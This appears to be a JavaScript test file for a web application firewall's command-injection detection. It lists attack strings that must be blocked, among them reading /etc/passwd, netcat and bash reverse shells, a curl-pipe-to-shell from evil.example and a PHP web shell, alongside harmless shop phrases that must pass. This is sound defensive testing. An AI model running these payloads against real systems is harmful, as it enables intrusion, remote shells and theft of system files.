import { expect } from 'chai';
import { findMissed, listRules, findWronglyBlocked } from './helpers.js';

const ATTACKS = [
  '; ls -la',
  '| cat /etc/passwd',
  '&& whoami',
  '|| id',
  '`id`',
  '$(whoami)',
  '; sleep 5',
  '| nc -e /bin/sh 10.0.0.1 4444',
  '; curl http://evil.example/x.sh | sh',
  '& ping -c 10 127.0.0.1 &',
  ';wget http://evil.example/y -O /tmp/y',
  '%0acat /etc/passwd',
  '$(sleep 5)',
  ';${IFS}cat${IFS}/etc/passwd',
  '| powershell -c whoami',
  '& dir c:\\',
  '1;uname -a',
  '127.0.0.1; id',
  '127.0.0.1 && cat /etc/hosts',
  'x|whoami',
  ';bash -i >& /dev/tcp/10.0.0.1/8080 0>&1',
  '; /usr/bin/id',
  '"; cat /etc/passwd; "',
  "';cat /etc/passwd;'",
  '<!--#exec cmd="ls"-->',
  'a;netstat -an',
  'test`sleep 5`',
  '$(curl http://evil.example/)',
  '| whoami',
  '127.0.0.1|ls',
  "<?php system($_GET['c']); ?>",
  ";system('id')",
  '/bin/ls -al',
  'ping -n 30 127.0.0.1',
  "'uname'",
  'whoami',
  'id;',
  '+|+dir+c:/',
];

const LOOK_ALIKES = [
  'Shoes; socks; laundry bag',
  'Please leave the parcel at the door; thanks!',
  'Echo Dot (5th Gen) | Alexa',
  'Rock & Roll',
  'Salt & Pepper grinder set',
  'Kitten & cat',
  'cat & dog toys',
  'Rest & sleep pillow',
  'Eat; sleep; repeat t-shirt',
  'Name & ID required',
  'Shoes | socks | hats',
  'Hair & curl cream',
  'Python crash course (book)',
  'Ruby red slippers',
  'Bash party decorations',
  'ping pong table',
  'tail light; head lamp',
  'find my order',
  'id',
  'sort by: newest',
  'Price: $19.99 - 20% off',
  'Table & 4 chairs (oak)',
  'Buy 2, get 1 free; limited offer',
  'AT&T compatible phone case',
  'Mr. & Mrs. wedding sign',
  'Q&A: how to choose a size?',
  'color=red&size=M',
  'system of a down t-shirt',
  'Operating system (Windows 11)',
];

describe('waf command injection', () => {
  it('blocks commands after separators, substitutions, binaries and shell tricks', () => {
    expect(findMissed(ATTACKS)).to.deep.equal([]);
  });

  it('passes separators followed by English, and command names used as words', () => {
    expect(findWronglyBlocked(LOOK_ALIKES)).to.deep.equal([]);
  });

  it('names the technique', () => {
    expect(listRules('; cat /etc/passwd', 'rce')).to.include('rce.chained-command');
    expect(listRules('$(id)', 'rce')).to.include('rce.command-substitution');
    expect(listRules('<!--#include virtual="/etc/passwd"-->', 'rce')).to.include('rce.server-side-include');
  });
});
